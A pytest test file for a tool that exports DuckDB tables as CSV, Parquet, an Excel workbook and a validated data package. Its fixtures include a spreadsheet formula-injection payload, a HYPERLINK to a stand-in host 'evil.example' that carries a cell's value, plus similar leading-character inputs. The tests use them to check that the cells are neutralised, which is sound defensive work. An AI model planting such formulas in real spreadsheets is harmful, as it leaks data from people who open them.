"""Downloads of a published build (pkit.exports) on a small real DuckDB file with hand-made marts: every mart
as CSV and Parquet, the series workbook, a data package that frictionless validates, spreadsheet-safe
cells, ``latest`` swapped to the new build, and a second export of the same build doing nothing."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import duckdb
import frictionless
import pytest
from openpyxl import load_workbook

from pkit import exports
from pkit.config import Settings
from pkit.report.page import write_report
from pkit.run.context import RunContext
from tests.pkit.report.test_charts import make_warehouse

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def make_published(path: Path) -> Path:
    """The report tests' marts plus a conflict row carrying a formula, a list and a timestamp column."""
    make_warehouse(path)
    with duckdb.connect(str(path)) as con:
        con.execute(
            "create table marts.fct_source_conflicts as select * from (values "
            "('c1', 'karachi-it-park', ?, ['a.txt', 'b.txt'], timestamptz '2025-02-14 10:30:00+05'), "
            "('c2', '-5 jobs', '+92 21 1234', ['c.txt'], null)) "
            "as t(conflict_id, subject, note, files, detected_at)",
            [FORMULA],
        )
        con.execute(
            "insert into marts.fct_source_conflicts values ('c3', ?, ?, [], null)", ["\tcmd", "\r@SUM(1)"]
        )
        con.execute("comment on column marts.fct_source_conflicts.note is 'What the sources disagree on.'")
    return path


def _manifest(path: Path) -> Path:
    path.write_text(
        json.dumps(
            {
                "nodes": {
                    "model.pkit.fct_targets": {
                        "resource_type": "model",
                        "name": "fct_targets",
                        "schema": "main_marts",
                        "description": "Every target, judged against actuals.",
                        "columns": {"status": {"name": "status", "description": "met, missed, in_progress"}},
                    }
                }
            }
        ),
        encoding="utf-8",
    )
    return path


@pytest.fixture()
def published(tmp_path):
    db = make_published(tmp_path / "warehouse" / "pkit.duckdb")
    return db


def test_every_mart_is_exported_and_the_package_validates(published, tmp_path):
    out = tmp_path / "warehouse" / "exports"
    manifest = _manifest(tmp_path / "manifest.json")
    folder = exports.write_exports(published, out, None, manifest=manifest, sources=[{"title": "SBP"}])
    assert folder.name == "run-7-fp"
    with duckdb.connect(str(published), read_only=True) as con:
        tables = [
            r[0]
            for r in con.execute(
                "select table_name from duckdb_tables() where schema_name='marts'"
            ).fetchall()
        ]
        counts = {t: con.execute(f"select count(*) from marts.{t}").fetchone()[0] for t in tables}
    assert len(tables) == 6
    for table in tables:
        with (folder / "csv" / f"{table}.csv").open(encoding="utf-8", newline="") as f:
            assert len(list(csv.DictReader(f))) == counts[table]
        parquet = folder / "parquet" / f"{table}.parquet"
        assert duckdb.sql(f"select count(*) from '{parquet}'").fetchall() == [(counts[table],)]

    report = frictionless.validate(folder / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert {r["path"] for r in package["resources"]} == {f"csv/{t}.csv" for t in tables}
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    assert package["pkit_build"]["run_id"] == "run-7" and package["pkit_build"]["fingerprint"] == "fp"
    assert package["created"] == "2026-01-02T03:04:05Z"
    assert package["sources"] == [{"title": "SBP"}]
    fields = {r["name"]: {f["name"]: f for f in r["schema"]["fields"]} for r in package["resources"]}
    assert fields["fct_targets"]["status"]["description"] == "met, missed, in_progress"  # from the manifest
    assert fields["fct_source_conflicts"]["note"]["description"] == "What the sources disagree on."
    assert fields["fct_source_conflicts"]["files"]["type"] == "array"
    assert fields["fct_source_conflicts"]["detected_at"]["type"] == "datetime"
    assert fields["fct_targets"]["target_value"]["type"] == "number"
    assert fields["fct_targets"]["is_latest_version"]["type"] == "boolean"
    assert fields["fct_targets"]["deadline_date"]["type"] == "date"
    targets = next(r for r in package["resources"] if r["name"] == "fct_targets")
    assert targets["description"] == "Every target, judged against actuals."

    book = load_workbook(folder / "pkit_series.xlsx", read_only=True)
    assert book.sheetnames == [
        "fct_ict_exports_monthly",
        "fct_ict_exports_fiscal_year",
        "fct_targets",
        "dim_parks",
        "fct_source_conflicts",
        "Sources",
    ]
    sources = [list(r) for r in book["Sources"].iter_rows(values_only=True)]
    monthly = next(r for r in sources if r[0] == "fct_ict_exports_monthly")
    assert monthly[1] == "marts.fct_ict_exports_monthly" and "publisher" in monthly[3]
    parks = next(r for r in sources if r[0] == "dim_parks")
    assert "marts.fct_park_metrics" in parks[3]  # the register's sources are its statements


def test_formula_cells_are_neutralised_in_csv_and_excel_but_exact_in_parquet(published, tmp_path):
    folder = exports.write_exports(published, tmp_path / "exports", None, sources=[])
    with (folder / "csv" / "fct_source_conflicts.csv").open(encoding="utf-8", newline="") as f:
        rows = {r["conflict_id"]: r for r in csv.DictReader(f)}
    assert rows["c1"]["note"] == "'" + FORMULA
    assert rows["c2"]["subject"] == "'-5 jobs" and rows["c2"]["note"] == "'+92 21 1234"
    assert rows["c3"]["subject"] == "'\tcmd" and rows["c3"]["note"] == "'\r@SUM(1)"
    assert rows["c1"]["subject"] == "karachi-it-park"  # a dash inside is harmless
    assert json.loads(rows["c1"]["files"]) == ["a.txt", "b.txt"]  # a list as JSON text
    assert rows["c1"]["detected_at"] == "2025-02-14T05:30:00Z"  # ISO-8601, UTC

    sheet = load_workbook(folder / "pkit_series.xlsx")["fct_source_conflicts"]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    c1 = next(v for v in values if v[0] == "c1")
    assert c1[2] == "'" + FORMULA and sheet.cell(2, 3).data_type == "s"  # text, not a formula

    parquet = duckdb.sql(
        f"select note, files from '{folder / 'parquet' / 'fct_source_conflicts.parquet'}' "
        "where conflict_id = 'c1'"
    ).fetchall()
    assert parquet == [(FORMULA, ["a.txt", "b.txt"])]


def test_latest_points_at_the_new_build_and_a_second_export_is_a_no_op(published, tmp_path):
    out = tmp_path / "exports"
    first = exports.write_exports(published, out, None, sources=[])
    latest = out / "latest"
    assert latest.is_symlink() and latest.resolve() == first.resolve()
    stamp = {p: p.stat().st_mtime_ns for p in first.rglob("*")}
    again = exports.write_exports(published, out, None, sources=[])
    assert again == first and {p: p.stat().st_mtime_ns for p in first.rglob("*")} == stamp
    assert sorted(p.name for p in out.iterdir()) == ["latest", first.name]  # no temporary left

    with duckdb.connect(str(published)) as con:  # the next night publishes another build
        con.execute("update audit.build_info set run_id = 'run-8', fingerprint = 'abcdef0123456789'")
    second = exports.write_exports(published, out, None, sources=[])
    assert second.name == "run-8-abcdef012345"
    assert os.readlink(latest) == second.name and (latest / "datapackage.json").exists()
    assert first.is_dir()  # earlier builds stay downloadable


def test_pipeline_stage_exports_the_published_build_and_the_report_links_it(tmp_path):
    from pkit import pipeline

    settings = Settings.from_env({"PKIT_WAREHOUSE_DIR": str(tmp_path / "warehouse")})
    ctx = RunContext.create("night-9", settings=settings)
    assert pipeline.export_downloads(ctx) is None  # nothing published: nothing to export
    make_published(settings.published_db)
    folder = Path(pipeline.export_downloads(ctx))
    assert folder.parent == settings.exports_dir and folder.name == "run-7-fp"
    events = [e for e in ctx.ledger.events() if e["kind"] == "export"]
    assert events[-1]["status"] == "written" and events[-1]["tables"] == 6

    page = write_report(ctx, {"status": "published"})
    html = page.read_text(encoding="utf-8")
    assert "Downloads" in html
    for href in (
        "../../exports/latest/pkit_series.xlsx",
        "../../exports/latest/datapackage.json",
        "../../exports/latest/csv/",
        "../../exports/latest/parquet/",
    ):
        assert f'href="{href}"' in html
        assert (page.parent / href).exists()  # the link resolves from the run's folder
        assert (settings.reports_dir / "latest" / href).exists()  # and from reports/latest/
    assert pipeline.export_downloads(ctx) == str(folder)
    assert [e for e in ctx.ledger.events() if e["kind"] == "export"][-1]["status"] == "unchanged"


def test_pkit_export_command(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from pkit.cli import app

    monkeypatch.setenv("PKIT_WAREHOUSE_DIR", str(tmp_path / "warehouse"))
    runner = CliRunner()
    assert runner.invoke(app, ["export"]).exit_code == 2  # nothing published yet
    make_published(tmp_path / "warehouse" / "pkit.duckdb")
    first = runner.invoke(app, ["export"])
    assert first.exit_code == 0, first.output
    assert "exported build run-7-fp" in first.output
    assert (tmp_path / "warehouse" / "exports" / "latest" / "pkit_series.xlsx").exists()
    again = runner.invoke(app, ["export"])
    assert again.exit_code == 0 and "exported already" in again.output


def test_neutralise():
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert exports.neutralise(cell) == "'" + cell
    for cell in ("", "a=b", "1-2", "'=already"):
        assert exports.neutralise(cell) == cell


def test_a_build_exported_meanwhile_by_another_process_is_kept(published, tmp_path, monkeypatch):
    out = tmp_path / "exports"
    real = exports.datapackage

    def racing(info, resources, sources):  # another process finishes the same build first
        (out / "run-7-fp").mkdir(parents=True)
        (out / "run-7-fp" / "theirs").write_text("x", encoding="utf-8")
        return real(info, resources, sources)

    monkeypatch.setattr(exports, "datapackage", racing)
    folder = exports.write_exports(published, out, None, sources=[])
    assert (folder / "theirs").exists() and sorted(p.name for p in out.iterdir()) == ["latest", "run-7-fp"]
